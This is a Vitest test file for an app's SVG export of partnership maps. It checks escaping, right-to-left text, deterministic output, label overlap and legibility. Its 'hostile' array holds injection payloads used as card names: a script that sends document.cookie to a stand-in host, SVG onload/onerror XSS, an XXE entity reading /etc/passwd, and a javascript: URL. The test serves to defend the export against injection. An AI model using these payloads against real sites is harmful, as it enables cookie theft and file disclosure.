import { estimateWidth as measure } from '@common-ground/shared/picture/font-metrics.ts'
import { boardToSvg } from '@common-ground/shared/picture/svg.ts'
import { readFileSync } from 'node:fs'
import { readFile } from '@common-ground/shared/interchange/read-file.ts'
import { heightOf } from '@common-ground/shared/picture/card-height.ts'
import { drawCard } from '@common-ground/shared/picture/card-picture.ts'
import { boardOfContent } from '@common-ground/shared/board/content-board.ts'
import { drawnRelations, drawRelations } from '@common-ground/shared/picture/relation-picture.ts'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openBrowser } from '../../support/browser.ts'
import { boardOf, card, sampleBoard } from './sample-board.ts'

let browser: Browser
beforeAll(async () => {
  browser = await openBrowser()
})
afterAll(async () => {
  await browser.close()
})

const hostile = [
  "<script>fetch('//x.invalid/'+document.cookie)</script>",
  "<svg onload=alert(1)><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=x onerror=alert(2)></body></foreignObject></svg>",
  ']]><!ENTITY xxe SYSTEM "file:///etc/passwd">',
  'a" onmouseover="alert(6)',
  '</title></style><script>alert(7)</script>',
  '\u001b]0;owned\u0007\u0000\uffff',
  'javascript:alert(3)',
]

/** What the browser's XML parser makes of a file: its error, and what it contains. */
async function parse(svg: string): Promise<{
  readonly error: string | null
  readonly elements: readonly string[]
  readonly attributes: readonly string[]
  readonly text: string
}> {
  const page = await browser.newPage()
  try {
    return await page.evaluate((source) => {
      const file = new DOMParser().parseFromString(source, 'image/svg+xml')
      const all = [...file.querySelectorAll('*')]
      return {
        error: file.querySelector('parsererror')?.textContent ?? null,
        elements: [...new Set(all.map((element) => element.localName))],
        attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
        text: file.documentElement.textContent ?? '',
      }
    }, svg)
  } finally {
    await page.close()
  }
}

test('[PI25] hostile names come out as text in a well-formed file of plain shapes', async () => {
  const board = boardOf(
    hostile.map((text, index) =>
      card(`i${String(index)}`, 'organisation', [0, index * 200, 264, 90], { name: text, whatWeDo: text }),
    ),
  )
  const { error, elements, attributes, text } = await parse(
    boardToSvg({ ...board, title: hostile[4] ?? '' }, { measure, theme: 'light' }),
  )
  expect(error).toBeNull()
  expect(elements.toSorted()).toEqual(['circle', 'desc', 'g', 'path', 'rect', 'svg', 'text', 'title'])
  expect(attributes.filter((name) => name.startsWith('on') || name.includes('href') || name === 'style')).toEqual([])
  expect(text).toContain('</title></style><script>alert(7)</script>')
})

test.each(['light', 'dark'] as const)(
  '[PI25] [PI26] the %s sample is well formed, says what it is and names its fonts',
  async (theme) => {
    const svg = boardToSvg(sampleBoard(), { measure, theme })
    const { error, attributes } = await parse(svg)
    expect(error).toBeNull()
    expect(svg).toContain('<title id="map-title">Northshire Young People\u2019s Partnership</title>')
    expect(svg).toContain('A map of a partnership: 20 cards, 12 relations.')
    expect(svg).toMatch(/font-family="&quot;Atkinson Hyperlegible Next Variable&quot;, .*sans-serif"/)
    expect(attributes).toContain('unicode-bidi')
    expect(svg).not.toMatch(/https?:\/\/(?!www\.w3\.org\/2000\/svg)/)
  },
)

test('[PI26] right-to-left names start at the right edge and stay isolated', () => {
  const board = boardOf([
    card('o', 'organisation', [0, 0, 264, 90], {
      name: '\u0627\u0644\u062c\u0632\u0627\u0626\u0631',
      whatWeDo: 'Algeria',
    }),
  ])
  const svg = boardToSvg(board, { measure, theme: 'light' })
  expect(svg).toMatch(
    /<text x="250" [^>]*direction="rtl" unicode-bidi="isolate"[^>]*>\u0627\u0644\u062c\u0632\u0627\u0626\u0631</,
  )
})

test('[PI27] equal boards give equal bytes, the order of the map apart', () => {
  const [one, other] = [sampleBoard(), sampleBoard()]
  const turned = { ...other, cards: new Map([...other.cards].toReversed()) }
  expect(boardToSvg(turned, { measure, theme: 'light' })).toBe(boardToSvg(one, { measure, theme: 'light' }))
})

test.each(['01-dumfries-galloway-integration', '04-openjs-cross-project-council', '06-mediterranean-action-plan'])(
  '[PI25] [PI24] the example %s becomes a well-formed map whose words lie on no card',
  async (name) => {
    let made = 0
    const file = readFile(
      readFileSync(new URL(`../../../shared/src/templates/examples/${name}.json`, import.meta.url)),
      {
        fileName: name,
        grade: 'strict',
        at: '2026-01-05T10:00:00.000Z',
        newId: () => `card${String(made++).padStart(8, '0')}`,
        heightOf,
      },
    )
    if (!file.ok) throw new Error(JSON.stringify(file.problems))
    const board = boardOfContent(file.content)
    expect((await parse(boardToSvg(board, { measure, theme: 'light' }))).error).toBeNull()
    const boxes = new Map(
      [...board.cards.values()].map((each) => [
        each.id,
        {
          x: each.pos[0],
          y: each.pos[1],
          w: each.size[0],
          h: drawCard(each, board, { detail: 'full', measure }).height,
        },
      ]),
    )
    const pills = drawRelations(board, drawnRelations(board, new Set()), { measure, boxes, detail: 'full' }).flatMap(
      ({ pill }) => (pill === null ? [] : [pill]),
    )
    const covered = pills.filter((pill) =>
      [...boxes].some(
        ([id, box]) =>
          board.cards.get(id)?.kind !== 'zone' &&
          pill.x < box.x + box.w &&
          box.x < pill.x + pill.w &&
          pill.y < box.y + box.h &&
          box.y < pill.y + pill.h,
      ),
    )
    expect(pills.length).toBeGreaterThan(2)
    expect(covered).toEqual([])
  },
)

test('[PI25] a board without cards is a small empty sheet', async () => {
  expect((await parse(boardToSvg(boardOf([]), { measure, theme: 'light' }))).error).toBeNull()
})

test('[PI30] what is missing is asked in a picture, and nothing offers to be pressed', () => {
  const board = boardOf([card('o', 'objective', [0, 0, 288, 100], { title: 'Add' })])
  const texts = [...boardToSvg(board, { measure, theme: 'light' }).matchAll(/<text[^>]*>([^<]*)</gu)].map(
    ([, text]) => text,
  )
  expect(texts).toEqual(['Objective', 'Add', 'How will we know?', 'Who leads?'])
})

test('[PI29] made to be seen small, it shows titles that can be read', () => {
  const board = sampleBoard()
  for (const scale of [0.5, 0.25, 0.15]) {
    const svg = boardToSvg(board, { measure, theme: 'light', scale })
    const sizes = [...svg.matchAll(/font-size="([\d.]+)"/gu)].map(([, size]) => Number(size) * scale)
    expect(sizes.length).toBeGreaterThan(4)
    for (const size of sizes) expect(size).toBeGreaterThanOrEqual(10.99)
  }
})
